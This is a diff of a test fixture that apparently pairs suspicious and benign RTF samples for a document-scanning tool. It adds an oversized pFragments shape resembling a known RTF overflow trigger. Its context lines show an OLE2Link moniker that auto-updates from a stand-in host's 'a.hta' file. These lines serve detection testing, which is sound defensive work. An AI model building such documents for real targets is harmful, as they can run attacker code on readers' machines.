@@ -115,6 +115,8 @@ pair("object_disguised",
 MONIKER = office.compound({"\1Ole": bytes(20) + bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b") + bytes([60, 0, 0, 0]) +
                            "http://example.com/a.hta".encode("utf-16-le") + bytes(2)},
                           bytes.fromhex("0003000000000000c000000000000046"))
+pair("exploit_shape", ("letter.rtf", office.rtf("Minutes", "{\\shp{\\*\\shpinst{\\sp{\\sn pFragments}{\\sv 1;1;" + "61" * 300 + "}}}}")),
+     ("letter.rtf", office.rtf("Minutes", "{\\shp{\\*\\shpinst{\\sp{\\sn pVerticies}{\\sv 8;5;" + "(1,2);" * 100 + "}}}}")))
 pair("link_object",
      ("letter.rtf", office.rtf("Minutes", office.rtf_object(office.ole1(b"OLE2Link", MONIKER), "\\objautlink\\objupdate"))),
      ("letter.rtf", office.rtf("Minutes", office.rtf_object(office.ole1(b"Excel.Sheet.8", SHEET), "\\objemb\\objupdate"))))
